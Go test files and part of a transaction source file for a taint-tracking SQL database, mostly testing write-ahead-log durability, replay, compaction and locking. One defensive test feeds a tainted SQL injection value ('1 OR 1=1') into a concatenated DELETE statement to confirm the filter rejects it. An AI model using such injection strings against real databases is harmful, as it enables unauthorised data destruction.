		t.Fatal(err)
	}
	if res.Len() != 1 || res.Get(0, "password").Str.Raw() != "n3wpw" {
		t.Fatalf("golden replay: %d rows, password %q", res.Len(), res.Get(0, "password").Str.Raw())
	}
	if !res.Get(0, "password").Str.IsTainted() {
		t.Error("golden replay lost the annotation")
	}
}

func hexPreview(b []byte) string {
	const n = 64
	if len(b) > n {
		return fmt.Sprintf("%q...", b[:n])
	}
	return fmt.Sprintf("%q", b)
}
