package sqldb

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"resin/internal/core"
)

var updateGolden = flag.Bool("update", false, "rewrite golden files")

// TestWALGoldenEncoding pins the WAL v2 byte format — magic and version
// byte, record framing (length + CRC), the statement/row-ops/begin/
// commit type bytes, row ids and value encodings inside 'R' records,
// and the shadow-policy annotation serialization — against
// testdata/wal_v2.golden. An accidental format change fails here loudly
// instead of silently orphaning old logs. Regenerate deliberately with:
//
//	go test ./internal/sqldb -run TestWALGoldenEncoding -update
//
// and bump walVersion if old logs can no longer replay.
// (TestWALLegacyV1Replay separately pins that v1 statement-format logs
// still open.)
func TestWALGoldenEncoding(t *testing.T) {
	path := filepath.Join(t.TempDir(), "golden.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)

	// The docs/SQL.md §3 worked example, persisted: a CREATE rewritten
	// with policy columns, an INSERT carrying a serialized annotation, a
	// rejected-free UPDATE inside a committed transaction (begin/commit
	// markers), and a standalone DELETE.
	db.MustExec("CREATE TABLE users (email TEXT, password TEXT)")
	pw := core.NewStringPolicy("s3cretpw", &passwordPolicy{Email: "u@example.org"})
	if _, err := db.QueryRaw("INSERT INTO users (email, password) VALUES (?, ?)",
		"u@example.org", pw); err != nil {
		t.Fatal(err)
	}
	tx := db.Begin()
	if _, err := tx.QueryRaw("UPDATE users SET password = ? WHERE email = ?",
		core.NewStringPolicy("n3wpw", &passwordPolicy{Email: "u@example.org"}), "u@example.org"); err != nil {
		t.Fatal(err)
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	if _, err := db.QueryRaw("DELETE FROM users WHERE email = ?", "nobody@example.org"); err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	goldenPath := filepath.Join("testdata", "wal_v2.golden")
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(goldenPath, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(goldenPath)
	if err != nil {
		t.Fatalf("%v (regenerate with -update)", err)
	}
	if string(got) != string(want) {
		t.Fatalf("WAL encoding changed (%d bytes, want %d).\ngot:  %s\nwant: %s\n"+
			"If this is deliberate, bump walVersion, handle the old format in replayWAL, and regenerate with -update.",
			len(got), len(want), hexPreview(got), hexPreview(want))
	}

	// The golden bytes must also replay: byte-stability without replay
	// compatibility would pin the wrong contract.
	replayPath := filepath.Join(t.TempDir(), "replay.wal")
	if err := os.WriteFile(replayPath, want, 0o644); err != nil {
		t.Fatal(err)
	}
	db2 := openWALDB(t, rt, replayPath)
	defer db2.Close()
	res, err := db2.QueryRaw("SELECT password FROM users WHERE email = ?", "u@example.org")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 || res.Get(0, "password").Str.Raw() != "n3wpw" {
		t.Fatalf("golden replay: %d rows, password %q", res.Len(), res.Get(0, "password").Str.Raw())
	}
	if !res.Get(0, "password").Str.IsTainted() {
		t.Error("golden replay lost the annotation")
	}
}

// TestWALLegacyV1Replay pins read compatibility with the retired v1
// statement format: the checked-in testdata/wal_v1.golden bytes (left
// exactly as the v1 engine wrote them — they can never be regenerated)
// must still open, replay to the same logical state, and come out the
// other side upgraded: OpenDB compacts a v1 log in place, so the file
// on disk is v2 before the first new append can mix formats.
func TestWALLegacyV1Replay(t *testing.T) {
	want, err := os.ReadFile(filepath.Join("testdata", "wal_v1.golden"))
	if err != nil {
		t.Fatalf("%v (the v1 golden must stay checked in; it cannot be regenerated)", err)
	}
	if want[len(walMagic)] != walVersionLegacy {
		t.Fatalf("v1 golden has version byte %d", want[len(walMagic)])
	}
	path := filepath.Join(t.TempDir(), "legacy.wal")
	if err := os.WriteFile(path, want, 0o644); err != nil {
		t.Fatal(err)
	}
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	res, err := db.QueryRaw("SELECT password FROM users WHERE email = ?", "u@example.org")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 || res.Get(0, "password").Str.Raw() != "n3wpw" {
		t.Fatalf("v1 replay: %d rows, password %q", res.Len(), res.Get(0, "password").Str.Raw())
	}
	if !res.Get(0, "password").Str.IsTainted() {
		t.Error("v1 replay lost the annotation")
	}
	upgraded, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if upgraded[len(walMagic)] != walVersion {
		t.Errorf("v1 log not upgraded on open: version byte %d, want %d", upgraded[len(walMagic)], walVersion)
	}
	// The upgraded log must keep working: append, restart, verify.
	db.MustExec("INSERT INTO users (email, password) VALUES ('b@example.org', 'pw2')")
	live := dumpEngine(db.Engine())
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	db2 := openWALDB(t, rt, path)
	defer db2.Close()
	if got := dumpEngine(db2.Engine()); !reflect.DeepEqual(got, live) {
		t.Error("upgraded log diverges after restart")
	}
}

func hexPreview(b []byte) string {
	const n = 64
	if len(b) > n {
		return fmt.Sprintf("%q...", b[:n])
	}
	return fmt.Sprintf("%q", b)
}
