package sqldb

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"resin/internal/core"
	"resin/internal/sanitize"
)

func openWALDB(t *testing.T, rt *core.Runtime, path string) *DB {
	t.Helper()
	db, err := OpenDB(rt, path)
	if err != nil {
		t.Fatalf("OpenDB(%s): %v", path, err)
	}
	return db
}

// TestWALRestartPreservesPolicies is the acceptance round-trip: a value
// tainted with UntrustedData before a restart carries the same policy
// set after recovery, compared by interned-set identity (the annotation
// bytes round-trip through the log, and core.CompileAnnotation hands
// both incarnations one interned set).
func TestWALRestartPreservesPolicies(t *testing.T) {
	path := filepath.Join(t.TempDir(), "db.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE users (name TEXT, password TEXT)")
	tainted := core.NewStringPolicy("s3cretpw", &sanitize.UntrustedData{Source: "restart-test"})
	if _, err := db.QueryRaw("INSERT INTO users (name, password) VALUES (?, ?)", "alice", tainted); err != nil {
		t.Fatal(err)
	}
	before, err := db.QueryRaw("SELECT password FROM users WHERE name = ?", "alice")
	if err != nil {
		t.Fatal(err)
	}
	beforeStr := before.Get(0, "password").Str
	if !beforeStr.IsTainted() {
		t.Fatal("pre-restart read lost the policy")
	}
	beforeSet := beforeStr.PoliciesAt(0).Intern()
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := db.QueryRaw("INSERT INTO users (name, password) VALUES ('x', 'y')"); !errors.Is(err, ErrDBClosed) {
		t.Fatalf("mutation after Close = %v, want ErrDBClosed", err)
	}

	db2 := openWALDB(t, rt, path)
	after, err := db2.QueryRaw("SELECT password FROM users WHERE name = ?", "alice")
	if err != nil {
		t.Fatal(err)
	}
	got := after.Get(0, "password").Str
	if got.Raw() != "s3cretpw" {
		t.Fatalf("recovered password = %q", got.Raw())
	}
	var ud *sanitize.UntrustedData
	for _, p := range got.PoliciesAt(0).Policies() {
		if u, ok := p.(*sanitize.UntrustedData); ok {
			ud = u
		}
	}
	if ud == nil || ud.Source != "restart-test" {
		t.Fatalf("recovered policies = %s, want UntrustedData{restart-test}", got.Describe())
	}
	if got.PoliciesAt(0).Intern() != beforeSet {
		t.Error("recovered policy set is not the same interned set as before the restart")
	}
	if err := db2.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestWALTxDurability: committed transactions replay as one group;
// rolled-back (and empty) transactions leave the log byte-identical.
func TestWALTxDurability(t *testing.T) {
	path := filepath.Join(t.TempDir(), "db.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE acct (id INT, bal INT)")
	db.MustExec("INSERT INTO acct (id, bal) VALUES (1, 100), (2, 50)")

	tx := db.Begin()
	tx.MustExec("UPDATE acct SET bal = 70 WHERE id = 1")
	tx.MustExec("UPDATE acct SET bal = 80 WHERE id = 2")
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}

	beforeRollback, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	rb := db.Begin()
	rb.MustExec("UPDATE acct SET bal = 0 WHERE id = 1")
	if err := rb.Rollback(); err != nil {
		t.Fatal(err)
	}
	empty := db.Begin()
	if err := empty.Commit(); err != nil {
		t.Fatal(err)
	}
	afterRollback, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(beforeRollback) != string(afterRollback) {
		t.Error("rolled-back / empty transactions changed the log")
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	db2 := openWALDB(t, rt, path)
	defer db2.Close()
	res, err := db2.QueryRaw("SELECT bal FROM acct WHERE id = 1")
	if err != nil {
		t.Fatal(err)
	}
	if got := res.Get(0, "bal").Int.Value(); got != 70 {
		t.Errorf("recovered bal(1) = %d, want 70", got)
	}
	// Writes continue against the log the commit moved to the new engine.
	if _, err := db2.QueryRaw("UPDATE acct SET bal = 71 WHERE id = 1"); err != nil {
		t.Fatalf("write after recovery: %v", err)
	}
}

// TestWALTornTail: a partial trailing record (torn write) truncates at
// the last applied boundary; a mid-log checksum flip truncates there —
// never a panic, never a half-applied suffix.
func TestWALTornTail(t *testing.T) {
	path := filepath.Join(t.TempDir(), "db.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE t (a INT)")
	for i := 0; i < 5; i++ {
		if _, err := db.QueryRaw("INSERT INTO t (a) VALUES (?)", i); err != nil {
			t.Fatal(err)
		}
	}
	sizeAll := db.WALSize()
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if int64(len(data)) != sizeAll {
		t.Fatalf("file size %d != WALSize %d", len(data), sizeAll)
	}
	ends := walRecordEnds(data)
	if len(ends) != 1+6 { // header + CREATE + 5 INSERTs
		t.Fatalf("record ends = %v", ends)
	}

	// Tear the last record: lose exactly the last insert.
	torn := filepath.Join(t.TempDir(), "torn.wal")
	if err := os.WriteFile(torn, data[:len(data)-3], 0o644); err != nil {
		t.Fatal(err)
	}
	db2 := openWALDB(t, rt, torn)
	res, err := db2.QueryRaw("SELECT * FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 4 {
		t.Errorf("rows after torn tail = %d, want 4", res.Len())
	}
	if db2.WALSize() != ends[len(ends)-2] {
		t.Errorf("truncated size = %d, want %d", db2.WALSize(), ends[len(ends)-2])
	}
	db2.Close()

	// Flip a payload byte in the record starting at ends[3] (the third
	// INSERT): recovery keeps the intact prefix — CREATE plus two
	// inserts — and truncates the rest.
	flipped := append([]byte(nil), data...)
	flipped[ends[3]+walRecHeaderSize+1] ^= 0xff
	corrupt := filepath.Join(t.TempDir(), "flip.wal")
	if err := os.WriteFile(corrupt, flipped, 0o644); err != nil {
		t.Fatal(err)
	}
	db3 := openWALDB(t, rt, corrupt)
	res, err = db3.QueryRaw("SELECT * FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 2 {
		t.Errorf("rows after mid-log flip = %d, want 2", res.Len())
	}
	db3.Close()
}

// TestWALCorruptionTyped: damage a crash cannot produce — bad magic, an
// unknown record type or marker misuse under a valid checksum — is a
// typed *WALCorruptionError, not a silent truncation.
func TestWALCorruptionTyped(t *testing.T) {
	rt := core.NewRuntime()
	dir := t.TempDir()

	write := func(name string, data []byte) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	header := append([]byte(walMagic), walVersion)

	cases := map[string][]byte{
		"bad-magic":            []byte("NOTAWALFILEATALL"),
		"bad-version":          append([]byte(walMagic), 0x7f),
		"unknown-record-type":  appendRecord(append([]byte(nil), header...), []byte{'Z', 1, 2}),
		"commit-without-begin": appendRecord(append([]byte(nil), header...), []byte{walRecCommit}),
		"select-in-log":        appendRecord(append([]byte(nil), header...), stmtPayload("SELECT * FROM t")),
		"unparseable-stmt":     appendRecord(append([]byte(nil), header...), stmtPayload("GIBBERISH @@@")),
		"replay-exec-fails":    appendRecord(append([]byte(nil), header...), stmtPayload("DROP TABLE missing")),
	}
	for name, data := range cases {
		_, err := OpenDB(rt, write(name+".wal", data))
		if !errors.Is(err, ErrWALCorrupt) {
			t.Errorf("%s: err = %v, want ErrWALCorrupt", name, err)
		}
		var ce *WALCorruptionError
		if !errors.As(err, &ce) {
			t.Errorf("%s: err %T is not *WALCorruptionError", name, err)
		}
	}

	// A file torn inside the header (crash while creating the log) is
	// not corruption: the log starts over.
	db, err := OpenDB(rt, write("torn-header.wal", []byte(walMagic[:3])))
	if err != nil {
		t.Fatalf("torn header: %v", err)
	}
	db.Close()
}

// TestRejectedStatementLeavesWALUntouched pins the satellite fix: a
// mutation that fails validation — engine-level (bad column, unbound
// placeholder, bad value in any row of a multi-row INSERT) or
// assertion-level (injection verdict) — must leave the log
// byte-identical and the in-memory state unchanged.
func TestRejectedStatementLeavesWALUntouched(t *testing.T) {
	path := filepath.Join(t.TempDir(), "db.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE t (a INT, b TEXT)")
	db.MustExec("INSERT INTO t (a, b) VALUES (1, 'one')")
	db.Filter().RejectTaintedStructure(true)

	before, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}

	rejected := []struct {
		name string
		run  func() error
	}{
		{"update-missing-column", func() error {
			_, err := db.QueryRaw("UPDATE t SET nosuch = 1 WHERE a = 1")
			return err
		}},
		{"delete-missing-table", func() error {
			_, err := db.QueryRaw("DELETE FROM missing WHERE a = 1")
			return err
		}},
		{"update-arity", func() error {
			_, err := db.QueryRaw("UPDATE t SET b = ? WHERE a = 1")
			return err
		}},
		{"engine-unbound-placeholder", func() error {
			_, _, err := db.Engine().ExecuteRaw(&Update{
				Table: "t",
				Set:   []Assignment{{Column: "b", Value: &Placeholder{Ord: 0}}},
			})
			return err
		}},
		{"engine-unbound-delete-where", func() error {
			_, _, err := db.Engine().ExecuteRaw(&Delete{Table: "t", Where: &Placeholder{Ord: 0}})
			return err
		}},
		{"multi-row-insert-bad-second-row", func() error {
			_, err := db.QueryRaw("INSERT INTO t (a, b) VALUES (2, 'two'), ('notanint', 'three')")
			return err
		}},
		{"injection-verdict", func() error {
			evil := core.NewStringPolicy("1 OR 1=1", &sanitize.UntrustedData{Source: "attacker"})
			_, err := db.Query(core.Concat(core.NewString("DELETE FROM t WHERE a = "), evil))
			return err
		}},
	}
	for _, tc := range rejected {
		if err := tc.run(); err == nil {
			t.Fatalf("%s: statement unexpectedly succeeded", tc.name)
		}
	}

	after, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(before) != string(after) {
		t.Errorf("rejected statements changed the log (%d -> %d bytes)", len(before), len(after))
	}
	res, err := db.QueryRaw("SELECT * FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 {
		t.Errorf("rows = %d, want 1 (no partial multi-row insert)", res.Len())
	}
	db.Close()
}

// TestWALCompaction: compaction bounds replay cost (the rewritten log is
// state-shaped, not history-shaped) and preserves tables, rows, indexes,
// and policy columns exactly.
func TestWALCompaction(t *testing.T) {
	path := filepath.Join(t.TempDir(), "db.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE t (id INT, val TEXT)")
	db.MustExec("CREATE INDEX ON t (id)")
	tainted := core.NewStringPolicy("keepme", &sanitize.UntrustedData{Source: "compact"})
	for i := 0; i < 50; i++ {
		if _, err := db.QueryRaw("INSERT INTO t (id, val) VALUES (?, ?)", i, tainted); err != nil {
			t.Fatal(err)
		}
	}
	for i := 0; i < 40; i++ {
		if _, err := db.QueryRaw("DELETE FROM t WHERE id = ?", i); err != nil {
			t.Fatal(err)
		}
	}
	grew := db.WALSize()
	if err := db.Compact(); err != nil {
		t.Fatal(err)
	}
	if db.WALSize() >= grew {
		t.Errorf("compaction did not shrink the log: %d -> %d", grew, db.WALSize())
	}
	// The log stays appendable after the handle swap.
	if _, err := db.QueryRaw("INSERT INTO t (id, val) VALUES (1000, 'post-compact')"); err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	db2 := openWALDB(t, rt, path)
	defer db2.Close()
	res, err := db2.QueryRaw("SELECT id, val FROM t ORDER BY id")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 11 {
		t.Fatalf("recovered rows = %d, want 11", res.Len())
	}
	if got := res.Get(0, "val").Str; !got.IsTainted() {
		t.Error("compaction dropped the policy annotation")
	}
	ix, err := db2.Engine().Indexes("t")
	if err != nil || len(ix) != 1 || ix[0] != "id" {
		t.Errorf("recovered indexes = %v (%v), want [id]", ix, err)
	}

	if err := Open(rt).Compact(); !errors.Is(err, ErrNoWAL) {
		t.Errorf("in-memory Compact = %v, want ErrNoWAL", err)
	}
}

// TestWALGroupCommit: with batching enabled, records still reach the
// file per append (process-crash safety) and survive a reopen; SyncWAL
// forces the fsync.
func TestWALGroupCommit(t *testing.T) {
	path := filepath.Join(t.TempDir(), "db.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.SetWALGroupCommit(16)
	db.MustExec("CREATE TABLE t (a INT)")
	for i := 0; i < 5; i++ {
		if _, err := db.QueryRaw("INSERT INTO t (a) VALUES (?)", i); err != nil {
			t.Fatal(err)
		}
	}
	st, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if st.Size() != db.WALSize() {
		t.Errorf("group commit buffered records in memory: file %d, wal %d", st.Size(), db.WALSize())
	}
	if err := db.SyncWAL(); err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	db2 := openWALDB(t, rt, path)
	defer db2.Close()
	res, err := db2.QueryRaw("SELECT * FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 5 {
		t.Errorf("recovered rows = %d, want 5", res.Len())
	}
}

// TestOpenDBInMemory: the empty path is the in-memory database — no
// file, no WAL, Close is a no-op.
func TestOpenDBInMemory(t *testing.T) {
	db, err := OpenDB(core.NewRuntime(), "")
	if err != nil {
		t.Fatal(err)
	}
	db.MustExec("CREATE TABLE t (a INT)")
	if db.WALSize() != 0 {
		t.Errorf("in-memory WALSize = %d", db.WALSize())
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := db.QueryRaw("INSERT INTO t (a) VALUES (1)"); err != nil {
		t.Errorf("in-memory DB must keep working after Close: %v", err)
	}
}

// TestWALSingleWriterLock: a second OpenDB on a live log fails with
// ErrWALBusy instead of interleaving appends; Close releases the lock,
// and the lock survives a compaction's file-handle swap.
func TestWALSingleWriterLock(t *testing.T) {
	path := filepath.Join(t.TempDir(), "locked.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE t (a INT)")
	if _, err := OpenDB(rt, path); !errors.Is(err, ErrWALBusy) {
		t.Fatalf("second open = %v, want ErrWALBusy", err)
	}
	if err := db.Compact(); err != nil {
		t.Fatal(err)
	}
	if _, err := OpenDB(rt, path); !errors.Is(err, ErrWALBusy) {
		t.Fatalf("second open after compaction = %v, want ErrWALBusy", err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	db2 := openWALDB(t, rt, path)
	defer db2.Close()
	if _, err := db2.QueryRaw("INSERT INTO t (a) VALUES (1)"); err != nil {
		t.Fatal(err)
	}
}

// TestWALRecordSizeLimit: a statement whose record would exceed
// walMaxRecord is rejected as a unit — typed error, nothing applied,
// log byte-identical — instead of being acked and then silently
// truncated on the next open.
func TestWALRecordSizeLimit(t *testing.T) {
	path := filepath.Join(t.TempDir(), "big.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE t (a TEXT)")
	before, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	huge := strings.Repeat("x", walMaxRecord+1)
	if _, err := db.QueryRaw("INSERT INTO t (a) VALUES (?)", huge); !errors.Is(err, ErrWALRecordTooLarge) {
		t.Fatalf("oversized insert = %v, want ErrWALRecordTooLarge", err)
	}
	res, err := db.QueryRaw("SELECT * FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 0 {
		t.Errorf("oversized insert left %d rows in memory", res.Len())
	}
	after, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(before) != string(after) {
		t.Error("oversized insert changed the log")
	}
	db.Close()
}

// TestWALInterleavedCommitMatchesRestart: a direct write logged while a
// transaction is open touches different rows, so under per-row
// first-committer-wins BOTH survive the commit — the transaction merges
// into the base engine instead of swapping it out (the pre-MVCC engine
// discarded the interleaved write here). Disk must agree with memory:
// a restart reproduces the merged state exactly. The second half pins
// the conflict side: a transaction racing the same row id loses with
// ErrTxConflict, nothing of it reaches the log, and restart still
// matches memory.
func TestWALInterleavedCommitMatchesRestart(t *testing.T) {
	path := filepath.Join(t.TempDir(), "interleave.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE t (id INT, val TEXT)")
	db.MustExec("CREATE INDEX ON t (id)")
	db.MustExec("INSERT INTO t (id, val) VALUES (1, 'base')")

	tx := db.Begin()
	tx.MustExec("UPDATE t SET val = 'tx' WHERE id = 1")
	// Direct write after Begin: a different row id, so the commit below
	// merges alongside it rather than conflicting with (or clobbering)
	// it.
	db.MustExec("INSERT INTO t (id, val) VALUES (2, 'interleaved')")
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	res, err := db.QueryRaw("SELECT val FROM t WHERE id = 2")
	if err != nil || res.Len() != 1 {
		t.Fatalf("interleaved write lost by the commit merge: %v rows=%d", err, res.Len())
	}

	// Conflict regression: two transactions write row id 1; the first
	// commit wins, the second fails atomically.
	tx1 := db.Begin()
	tx1.MustExec("UPDATE t SET val = 'winner' WHERE id = 1")
	tx2 := db.Begin()
	tx2.MustExec("UPDATE t SET val = 'loser' WHERE id = 1")
	tx2.MustExec("INSERT INTO t (id, val) VALUES (3, 'loser-extra')")
	if err := tx1.Commit(); err != nil {
		t.Fatal(err)
	}
	sizeBefore := db.WALSize()
	if err := tx2.Commit(); !errors.Is(err, ErrTxConflict) {
		t.Fatalf("conflicting commit = %v, want ErrTxConflict", err)
	}
	if db.WALSize() != sizeBefore {
		t.Error("losing commit appended to the log")
	}
	if res, _ := db.QueryRaw("SELECT * FROM t WHERE id = 3"); res.Len() != 0 {
		t.Error("losing transaction's insert leaked into the database")
	}

	live := dumpEngine(db.Engine())
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	db2 := openWALDB(t, rt, path)
	defer db2.Close()
	if got := dumpEngine(db2.Engine()); !reflect.DeepEqual(got, live) {
		t.Fatalf("restart diverges from live state after interleaved commit\nlive:      %+v\nrecovered: %+v", live, got)
	}
	res, err = db2.QueryRaw("SELECT val FROM t WHERE id = 1")
	if err != nil || res.Len() != 1 || res.Get(0, "val").Str.Raw() != "winner" {
		t.Fatalf("committed update lost: %v rows=%d", err, res.Len())
	}
	if res, _ := db2.QueryRaw("SELECT val FROM t WHERE id = 2"); res.Len() != 1 {
		t.Error("interleaved write lost after restart")
	}
}

// TestWALCommitAfterCloseRefused: a transaction committing after
// DB.Close must not touch (or rewrite) the closed log — including the
// conflicted-commit path, which rewrites the file wholesale and would
// otherwise leak a fresh flocked fd.
func TestWALCommitAfterCloseRefused(t *testing.T) {
	path := filepath.Join(t.TempDir(), "lateclose.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE t (a INT)")

	tx1 := db.Begin()
	tx1.MustExec("INSERT INTO t (a) VALUES (1)")
	tx2 := db.Begin() // will be conflicted by tx1's commit
	tx2.MustExec("INSERT INTO t (a) VALUES (2)")
	if err := tx1.Commit(); err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	before, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := tx2.Commit(); !errors.Is(err, ErrDBClosed) {
		t.Fatalf("commit after close = %v, want ErrDBClosed", err)
	}
	after, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(before) != string(after) {
		t.Error("commit after close rewrote the closed log")
	}
	// No leaked lock: the path reopens.
	db2 := openWALDB(t, rt, path)
	defer db2.Close()
	res, err := db2.QueryRaw("SELECT * FROM t")
	if err != nil || res.Len() != 1 {
		t.Fatalf("recovered rows = %d (%v), want 1", res.Len(), err)
	}
}

// TestWALAutoCompactPolicy exercises DB.SetWALAutoCompact: once the log
// grows past the armed threshold, churn triggers a background Compact
// that shrinks the file — while a transaction holding an open snapshot
// keeps reading its frontier unperturbed. Compaction rewrites only the
// log and vacuum respects registered snapshots, so "compaction never
// races an open snapshot" is a tested property, not a comment.
func TestWALAutoCompactPolicy(t *testing.T) {
	path := filepath.Join(t.TempDir(), "autocompact.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE t (id INT, val TEXT)")
	db.MustExec("CREATE INDEX ON t (id)")
	for i := 0; i < 8; i++ {
		db.MustExec(fmt.Sprintf("INSERT INTO t (id, val) VALUES (%d, 'seed-%d')", i, i))
	}

	tx := db.Begin() // open snapshot across the whole compaction storm
	snapBefore, err := tx.QueryRaw("SELECT id, val FROM t ORDER BY id")
	if err != nil {
		t.Fatal(err)
	}

	const threshold = 4 << 10
	db.SetWALAutoCompact(threshold)
	// Churn the same 8 rows: the log grows with dead records while the
	// live state stays tiny, so a compaction must eventually win big.
	deadline := time.Now().Add(10 * time.Second)
	var maxSeen int64
	compacted := false
	for i := 0; !compacted; i++ {
		db.MustExec(fmt.Sprintf("UPDATE t SET val = 'gen-%d' WHERE id = %d", i, i%8))
		if sz := db.WALSize(); sz > maxSeen {
			maxSeen = sz
		} else if maxSeen > threshold && sz < maxSeen/2 {
			compacted = true // the file shrank: background Compact ran
		}
		if time.Now().After(deadline) {
			t.Fatalf("no auto-compaction after %d updates (WAL %d bytes, max %d)", i, db.WALSize(), maxSeen)
		}
	}

	// The open snapshot never moved.
	snapAfter, err := tx.QueryRaw("SELECT id, val FROM t ORDER BY id")
	if err != nil {
		t.Fatal(err)
	}
	if snapBefore.Len() != snapAfter.Len() {
		t.Fatalf("snapshot moved during compaction: %d rows then %d", snapBefore.Len(), snapAfter.Len())
	}
	for i := 0; i < snapBefore.Len(); i++ {
		if snapBefore.Get(i, "val").Str.Raw() != snapAfter.Get(i, "val").Str.Raw() {
			t.Fatalf("snapshot row %d changed during compaction", i)
		}
	}
	if err := tx.Rollback(); err != nil {
		t.Fatal(err)
	}

	// Disarm, quiesce (a background Compact may still be in flight —
	// Compact serializes with it), and prove restart equality.
	db.SetWALAutoCompact(0)
	if err := db.Compact(); err != nil {
		t.Fatal(err)
	}
	live := dumpEngine(db.Engine())
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	db2 := openWALDB(t, rt, path)
	defer db2.Close()
	if got := dumpEngine(db2.Engine()); !reflect.DeepEqual(got, live) {
		t.Error("state diverges after restart following auto-compaction")
	}
}
