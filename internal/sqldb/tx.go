package sqldb

import (
	"errors"
	"fmt"
	"sync"

	"resin/internal/core"
)

// Transactions with integrity assertions — the §8 future-work item:
// "Instead of requiring programmers to specify what writes are allowed
// using filter objects, we envision using transactions to buffer database
// or file system changes, and checking a programmer-specified assertion
// before committing them."
//
// A Tx executes against a speculative copy of the database. Reads inside
// the transaction see its own writes; nothing touches the real database
// until Commit, which first runs every registered integrity assertion
// against the speculative state and aborts the whole transaction if any
// objects. Transactions are optimistic and serialized at commit time.

// IntegrityAssertion inspects a speculative database state; returning an
// error vetoes the commit.
type IntegrityAssertion func(view *View) error

// View is the read-only query interface integrity assertions get.
type View struct {
	engine *Engine
}

// Query runs a SELECT (or any statement — assertions should read only)
// against the speculative state, with policies attached as usual. args
// bind `?` placeholders by position, as in DB.Query.
func (v *View) Query(q core.String, args ...any) (*Result, error) {
	bound, err := argExprs(args)
	if err != nil {
		return nil, err
	}
	toks, err := Lex(q)
	if err != nil {
		return nil, err
	}
	stmt, err := parseAndBind(toks, bound)
	if err != nil {
		return nil, err
	}
	return executeWithPolicies(v.engine, stmt)
}

// QueryRaw is Query for untracked text.
func (v *View) QueryRaw(q string, args ...any) (*Result, error) {
	return v.Query(core.NewString(q), args...)
}

// MustExec runs a query against the speculative state and panics on
// error — parity with DB.MustExec for assertion and test setup code.
func (v *View) MustExec(q string) *Result {
	res, err := v.QueryRaw(q)
	if err != nil {
		panic(fmt.Sprintf("sqldb: %s: %v", q, err))
	}
	return res
}

// Clone deep-copies the engine's tables (rows copied, values are plain
// data), including their ordered indexes. The clone keeps the source's
// schema generation: the schemas are identical, so cached plans compiled
// against the source stay valid for the clone until either side runs
// DDL (which stamps a fresh process-unique generation).
func (e *Engine) Clone() *Engine {
	out, _ := e.cloneForTx()
	return out
}

// cloneForTx is Clone plus the engine's WAL append count, read under
// the same lock acquisition (Begin needs the two to be consistent).
func (e *Engine) cloneForTx() (*Engine, uint64) {
	e.mu.RLock()
